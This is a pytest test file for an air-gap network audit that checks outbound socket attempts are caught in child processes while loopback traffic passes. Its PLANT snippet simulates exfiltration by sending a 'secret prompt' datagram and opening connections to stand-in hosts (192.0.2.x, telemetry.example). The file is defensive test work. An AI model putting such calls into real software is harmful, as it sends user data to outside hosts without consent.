"""The audit: a planted call is caught, here and in children; loopback is not flagged. Plants run without a network."""

from __future__ import annotations

import ipaddress
import os
import subprocess
import sys
from pathlib import Path

import pytest

from local_fusion.airgap.audit import HOSTS_FILE, Attempt, attempts, child_environment, is_local
from local_fusion.airgap.namespace import isolated, unavailable

needs_namespace = pytest.mark.skipif(unavailable() is not None, reason=str(unavailable()))

PLANT = """
import socket
for call in (
    lambda: socket.create_connection(("192.0.2.1", 443), timeout=5),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret prompt", ("192.0.2.2", 53)),
    lambda: socket.getaddrinfo("telemetry.example", 443),
):
    try:
        call()
    except OSError:
        pass
"""
HARMLESS = """
import socket, os, tempfile
server = socket.create_server(("127.0.0.1", 0))
socket.create_connection(server.getsockname(), timeout=5)
socket.getaddrinfo("localhost", 80)
socket.getaddrinfo(None, 80)
folder = tempfile.mkdtemp()
unix = socket.socket(socket.AF_UNIX)
unix.bind(folder + "/s")
unix.listen()
socket.socket(socket.AF_UNIX).connect(folder + "/s")
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", server.getsockname())
"""


def audited(code: str, record: Path, allowed: tuple[str, ...] = ()) -> list[Attempt]:
    environment = child_environment(record, allowed)
    command = isolated([sys.executable, "-c", code])
    done = subprocess.run(command, env=environment, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    return attempts(record)


@needs_namespace
def test_planted_calls_are_caught_with_their_place(tmp_path: Path) -> None:
    record = tmp_path / "attempts.jsonl"
    caught = audited(PLANT, record)
    assert [(attempt.event, attempt.address) for attempt in caught if "192.0.2" in attempt.address] == [
        ("socket.connect", "192.0.2.1:443"),
        ("socket.sendto", "192.0.2.2:53"),
    ]
    assert ("socket.getaddrinfo", "telemetry.example") in [(attempt.event, attempt.address) for attempt in caught]
    assert any("<string>:4" in place for place in caught[0].place)
    assert "secret prompt" not in record.read_text()


@needs_namespace
def test_grandchildren_are_watched_too(tmp_path: Path) -> None:
    nested = f"import subprocess, sys; subprocess.run([sys.executable, '-c', {PLANT!r}])"
    start = f"m.get_context('spawn').Process(target=exec, args=({PLANT!r}, {{}})).start()"
    caught = audited(nested, tmp_path / "nested.jsonl")
    assert "192.0.2.1:443" in [attempt.address for attempt in caught]
    caught = audited(f"import multiprocessing as m; {start}", tmp_path / "spawned.jsonl")
    assert "192.0.2.1:443" in [attempt.address for attempt in caught]


@needs_namespace
def test_the_machines_own_traffic_is_not_flagged(tmp_path: Path) -> None:
    assert audited(HARMLESS, tmp_path / "attempts.jsonl") == []


@needs_namespace
def test_a_datagram_socket_that_only_learns_its_address_is_noted_as_silent(tmp_path: Path) -> None:
    code = """
import socket
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(("192.0.2.1", 80))
except OSError:
    pass
"""
    assert [attempt.silent for attempt in audited(code, tmp_path / "attempts.jsonl")] == [True]


@needs_namespace
def test_allowed_networks_are_not_flagged(tmp_path: Path) -> None:
    caught = audited(PLANT, tmp_path / "attempts.jsonl", ("192.0.2.0/24",))
    assert [attempt.address for attempt in caught] == ["telemetry.example"]


@needs_namespace
def test_a_name_that_the_hosts_file_knows_is_looked_up_without_asking(tmp_path: Path) -> None:
    known = [name for line in HOSTS_FILE.read_text().splitlines() for name in line.split("#")[0].split()[1:]]
    code = f"""
import socket
for name in [*{known!r}, "unknown.example"]:
    try:
        socket.gethostbyaddr(name)
    except OSError:
        pass
"""
    assert [attempt.address for attempt in audited(code, tmp_path / "attempts.jsonl")] == ["unknown.example"]


def test_another_sitecustomize_still_runs(tmp_path: Path) -> None:
    (tmp_path / "sitecustomize.py").write_text("import os; os.environ['OTHER_RAN'] = 'yes'")
    base = dict(os.environ) | {"PYTHONPATH": str(tmp_path)}
    environment = child_environment(tmp_path / "attempts.jsonl", base=base)
    code = "import os, sys; print(os.environ['OTHER_RAN'], 'local_fusion_audit' in sys.modules)"
    done = subprocess.run([sys.executable, "-c", code], env=environment, capture_output=True, text=True, timeout=60)
    assert done.stdout.strip() == "yes True", done.stderr


@pytest.mark.parametrize(
    "host",
    [
        "127.0.0.1",
        "127.8.9.1",
        "::1",
        "::ffff:127.0.0.1",
        "0.0.0.0",
        "::",
        "",
        None,
        "localhost",
        b"localhost",
        "LOCALHOST",
    ],
)
def test_local_hosts(host: object) -> None:
    assert is_local(host)


@pytest.mark.parametrize(
    "host",
    ["192.0.2.1", "10.0.0.1", "255.255.255.255", "224.0.0.1", "fe80::1%eth0", "2001:db8::1", "example.org", b"a.b"],
)
def test_hosts_elsewhere(host: object) -> None:
    assert not is_local(host)


def test_a_network_between_nodes_counts_as_local_where_allowed() -> None:
    network = (ipaddress.ip_network("10.0.0.0/8"),)
    assert is_local(("10.2.3.4", 80), network)
    assert not is_local(("11.2.3.4", 80), network)
